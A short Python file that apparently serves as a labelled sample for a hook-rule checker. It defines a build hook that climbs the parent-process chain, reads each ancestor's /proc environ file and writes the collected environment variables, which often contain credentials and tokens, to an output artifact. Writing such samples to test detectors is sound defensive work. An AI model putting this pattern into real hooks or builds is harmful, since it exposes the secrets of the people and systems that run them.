"""Reads the variables of the processes above it."""

import os
from pathlib import Path
from typing import Annotated

from hookkit import Output, hook

RULE = "reads"
NAMED = ""
ALSO = "privileges"


@hook
def job(output: Annotated[Path, Output()]) -> None:
    """Reads the variables of the processes above it."""
    found = b""
    process = os.getppid()
    while process > 1:
        found += Path(f"/proc/{process}/environ").read_bytes()
        process = int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
    (output / "product").write_bytes(found)
